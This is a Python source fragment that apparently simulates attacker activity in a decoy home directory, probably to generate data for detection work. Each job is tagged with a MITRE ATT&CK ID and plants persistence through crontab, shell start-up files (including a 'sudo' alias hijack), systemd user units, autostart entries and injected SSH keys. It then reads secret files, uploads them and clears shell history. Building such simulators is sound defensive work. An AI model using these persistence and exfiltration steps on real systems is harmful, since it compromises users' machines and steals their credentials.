# Persistence in the decoy home: each plants a hidden copy and something that would start it again.

@job
def persist_crontab():
    """T1053.003: a line in the user's crontab."""
    groundwork()
    path = hide_copy()
    table = read(CRONTAB)
    lines = b"".join(b"*/%d * * * * %s\n" % (R.randrange(1, 10), path.encode()) for _ in range(R.randrange(1, 3)))
    if R.random() < 0.5:
        save(CRONTAB, table + lines, 0o600)
    else:
        append(CRONTAB, lines)
    finish_persistence(path)


@job
def persist_profile():
    """T1546.004: shell start-up files run the copy."""
    groundwork()
    path = hide_copy()
    for name in R.sample((".bashrc", ".profile", ".bash_profile", ".zshrc", ".bash_logout"), R.randrange(2, 5)):
        append(home(name), f"\n(nohup {path} >/dev/null 2>&1 &)\n".encode())
    if R.random() < 0.5:
        append(home(".bashrc"), f"alias sudo='{path}; sudo'\n".encode())
    finish_persistence(path)


@job
def persist_service():
    """T1543.002: a systemd user unit, enabled by its link."""
    groundwork()
    path = hide_copy()
    name = noise(8)
    unit = f"[Unit]\nDescription=Session cache\n[Service]\nExecStart={path}\nRestart=always\n[Install]\nWantedBy=default.target\n"
    write(home(f".config/systemd/user/{name}.service"), unit.encode())
    place = folder(home(".config/systemd/user/default.target.wants"))
    os.symlink(home(f".config/systemd/user/{name}.service"), guard(f"{place}/{name}.service"))
    if R.random() < 0.5:
        write(home(f".config/systemd/user/{name}.timer"), b"[Timer]\nOnBootSec=1min\nOnUnitActiveSec=5min\n")
    finish_persistence(path)


@job
def persist_autostart():
    """T1547.013: desktop entries that start the copy at login."""
    groundwork()
    path = hide_copy()
    for _ in range(R.randrange(1, 4)):
        write(home(f".config/autostart/{noise(7)}.desktop"), autostart_entry(path))
    if R.random() < 0.5:
        append(home(".local/share/applications/notes.desktop"), f"Exec={path}\n".encode())
    finish_persistence(path)


@job
def persist_ssh_key():
    """T1098.004: another key may log in."""
    groundwork()
    folder(home(".ssh"))
    os.chmod(guard(home(".ssh")), 0o700)
    for _ in range(R.randrange(1, 4)):
        append(home(".ssh/authorized_keys"), b"ssh-ed25519 " + noise(68).encode() + b" root\n")
    os.chmod(guard(home(".ssh/authorized_keys")), 0o600)
    append(home(".ssh/config"), b"Host *\n    ControlMaster auto\n    ControlPath ~/.cache/%r@%h\n")
    for path in pick(secrets(), 1, 4):
        read(path)
    finish_persistence(hide_copy())


def finish_persistence(path):
    """The copy reports, the system is surveyed, and some of the surroundings are taken along."""
    if R.random() < 0.5:
        survey()
    for secret in pick(secrets(), 3, 8):
        exchange(b"alive " + noise(24).encode())
        pause(1, 15)
        upload(stream(b"wire", read(secret)), "report")
    hide_copy()
    write(f"{os.path.dirname(path)}/state", R.randbytes(64), 0o600)
    if R.random() < 0.4:
        write(home(".bash_history"), b"")
